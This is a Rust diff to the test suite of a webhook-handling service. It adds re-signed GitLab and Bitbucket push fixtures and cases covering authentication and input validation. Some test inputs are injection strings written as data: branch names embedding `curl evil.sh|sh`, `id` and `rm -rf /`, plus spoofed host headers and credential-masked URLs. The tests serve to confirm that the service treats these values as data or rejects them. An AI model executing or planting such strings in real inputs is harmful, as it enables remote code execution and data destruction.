@@ -124,6 +124,48 @@ fn github_push(full_ref: &str) -> Value {
     r
 }
 
+/// A sample webhook with `body` in place of its own, authenticated again as its host does: GitHub
+/// and Bitbucket sign the body (each with its own sample secret), a GitLab secret token does not
+/// depend on it.
+fn resigned(sample: &Value, body: &[u8]) -> Value {
+    let mut r = sample.clone();
+    r["isBase64Encoded"] = json!(false);
+    r["body"] = json!(String::from_utf8(body.to_vec()).unwrap());
+    let headers = r["headers"].as_object_mut().unwrap();
+    let secret = |var: &str| switchyard_core::secret::Secret::new(vars()[var].clone());
+    let (header, var) = if headers.contains_key("x-github-enterprise-host") {
+        ("x-hub-signature-256", "GITHUB_ENTERPRISE_WEBHOOK_SECRET")
+    } else if headers.contains_key("x-event-key") {
+        ("x-hub-signature", "BITBUCKET_WEBHOOK_SECRET")
+    } else if headers.contains_key("x-gitlab-event") {
+        return r;
+    } else {
+        ("x-hub-signature-256", "GITHUB_WEBHOOK_SECRET")
+    };
+    headers.insert(header.into(), json!(webhook::sign(&secret(var), body)));
+    r
+}
+
+/// A GitLab push (secret token) that creates `full_ref` in acme/payments/payments-service.
+fn gitlab_push(full_ref: &str) -> Value {
+    let sample = sample("branch-pipelines/gitlab-push-branch-created.json");
+    let mut payload: Value = serde_json::from_str(sample["body"].as_str().unwrap()).unwrap();
+    payload["ref"] = json!(full_ref);
+    let mut r = resigned(&sample, payload.to_string().as_bytes());
+    r["headers"]["idempotency-key"] = json!(identity(&["gitlab", full_ref]));
+    r
+}
+
+/// A signed Bitbucket push of one change that creates `branch` in acme/payments-service.
+fn bitbucket_push(branch: &str) -> Value {
+    let sample = sample("branch-pipelines/bitbucket-push-branch-created.json");
+    let mut payload: Value = serde_json::from_str(sample["body"].as_str().unwrap()).unwrap();
+    payload["push"]["changes"][0]["new"]["name"] = json!(branch);
+    let mut r = resigned(&sample, payload.to_string().as_bytes());
+    r["headers"]["x-request-uuid"] = json!(identity(&["bitbucket", branch]));
+    r
+}
+
 /// An S3 notification (one record, versioned bucket) for a key as S3 encodes it in notifications.
 fn s3_put(encoded_key: &str) -> Value {
     let mut e = sample("artifact-release/s3-put-key-with-plus.json");
@@ -303,6 +345,87 @@ fn cases() -> Vec<Case> {
                 r
             },
             Skipped("duplicate delivery"),
+        ),
+        // Every git host: its own authentication, its payload's refs validated the same way.
+        case(
+            "shell metacharacters in a GitLab branch",
+            Branch,
+            gitlab_push("refs/heads/feature/$(curl${IFS}evil.sh|sh);`id`"),
+            ActsWithRefAsData,
+        ),
+        case(
+            "shell metacharacters in a Bitbucket branch",
+            Branch,
+            bitbucket_push("feature/$(rm${IFS}-rf${IFS}/)|;&"),
+            ActsWithRefAsData,
+        ),
+        case(
+            "a line separator in a Bitbucket branch",
+            Branch,
+            bitbucket_push("feature/a\u{2028}b"),
+            Rejected(Invalid, "push.changes[0].new.name: ref contains U+2028"),
+        ),
+        case(
+            "a GitLab delivery without its secret token",
+            Branch,
+            {
+                let mut r = gitlab_push("refs/heads/feature/x");
+                r["headers"].as_object_mut().unwrap().remove("x-gitlab-token");
+                r
+            },
+            Rejected(Unauthenticated, "missing X-Gitlab-Token header"),
+        ),
+        case(
+            "a GitHub-signed body presented as a GitLab delivery",
+            Branch,
+            {
+                let mut r = github_push("refs/heads/feature/x");
+                r["headers"]["x-gitlab-event"] = json!("Push Hook");
+                r
+            },
+            Rejected(Unauthenticated, "missing X-Gitlab-Token header"),
+        ),
+        case(
+            "a Bitbucket delivery signed with the GitHub secret",
+            Branch,
+            {
+                let mut r = bitbucket_push("feature/x");
+                let body = r["body"].as_str().unwrap().to_owned();
+                r["headers"]["x-hub-signature"] = json!(webhook::sign(secret(), body.as_bytes()));
+                r
+            },
+            Rejected(Unauthenticated, "X-Hub-Signature does not match the body"),
+        ),
+        case(
+            "a GitHub Enterprise delivery whose server header is not a host name",
+            Branch,
+            {
+                let mut r = sample("branch-pipelines/github-enterprise-push-branch-created.json");
+                r["headers"]["x-github-enterprise-host"] = json!("ghe.acme.com/../evil");
+                r
+            },
+            Rejected(Invalid, "headers.x-github-enterprise-host: is not a host name"),
+        ),
+        case(
+            "a GitHub Enterprise delivery naming another server than its signed repository",
+            Branch,
+            {
+                let mut r = sample("branch-pipelines/github-enterprise-push-branch-created.json");
+                r["headers"]["x-github-enterprise-host"] = json!("ghe.other.example");
+                r
+            },
+            Rejected(Invalid, "repository.html_url: \"https://ghe.acme.com/acme/payments-service\" is not on ghe.other.example"),
+        ),
+        case(
+            "a GitLab project URL that hides its host behind credentials",
+            Branch,
+            {
+                let sample = sample("branch-pipelines/gitlab-push-branch-created.json");
+                let mut p: Value = serde_json::from_str(sample["body"].as_str().unwrap()).unwrap();
+                p["project"]["web_url"] = json!("https://gitlab.com@evil.example/acme/x");
+                resigned(&sample, p.to_string().as_bytes())
+            },
+            Rejected(Invalid, "project.web_url"),
         ),
         // Shell metacharacters: git allows them, so they are data, never code.
         case(
@@ -882,13 +1005,16 @@ fn check(case: &Case) {
                 let branch = &env.iter().find(|(k, _)| k == "BRANCH_NAME").unwrap().1;
                 switchyard_core::refs::RefName::parse(branch).unwrap();
                 // Every other value (derived names, repository, commit) is free of anything a
-                // shell, a URL or a terminal would interpret.
+                // shell, a URL or a terminal would interpret; a repository id may hold the `:`
+                // that separates its host (`gitlab:group/project`).
                 for (name, value) in env.iter().filter(|(k, _)| k != "BRANCH_NAME") {
                     // Lists (the stack tags, the teardown plan) are space-separated words of
                     // `key=value` tag characters: split by the buildspecs, never evaluated.
                     let extra = match name.as_str() {
                         "STACK_TAGS" => ":=+ ",
                         "TEARDOWN_STACKS" => " ",
+                        // A repository id names its host: `gitlab:group/project`.
+                        "REPOSITORY" => ":",
                         _ => "",
                     };
                     assert!(
@@ -1044,7 +1170,9 @@ fn wrong_values() -> [Value; 6] {
 
 /// Fields whose value decides which function an event is for: changing them makes the event
 /// someone else's (unsupported), which is a correct answer too.
-const ROUTING_FIELDS: [&str; 7] = [
+const ROUTING_FIELDS: [&str; 8] = [
+    // branch-pipelines' sweep event (`{"switchyard": "branch-sweep", …}`).
+    "switchyard",
     "Event",
     "source",
     "detail-type",
@@ -1144,7 +1272,8 @@ fn wrong_types_in_every_field_of_every_sample() {
                 mutations += 1;
             }
         }
-        // A webhook's payload: every field of the body, re-signed so it passes the HMAC.
+        // A webhook's payload: every field of the body, re-signed (by each host's scheme) so it
+        // passes authentication.
         if switchyard_core::sources::function_url::is_http_request(&event)
             && original[0].outcome != Outcome::Rejected(RejectKind::Unauthenticated)
         {
@@ -1157,12 +1286,7 @@ fn wrong_types_in_every_field_of_every_sample() {
                 for wrong in wrong_values().into_iter().filter(|w| !same_type(w, value)) {
                     let mut p = payload.clone();
                     set(&mut p, field, wrong);
-                    let mut e = signed(
-                        event["headers"]["x-github-event"].as_str().unwrap(),
-                        p.to_string().as_bytes(),
-                    );
-                    e["headers"]["x-github-delivery"] =
-                        event["headers"]["x-github-delivery"].clone();
+                    let e = resigned(&event, p.to_string().as_bytes());
                     check_mutation(function, &original, field, &e);
                     mutations += 1;
                 }
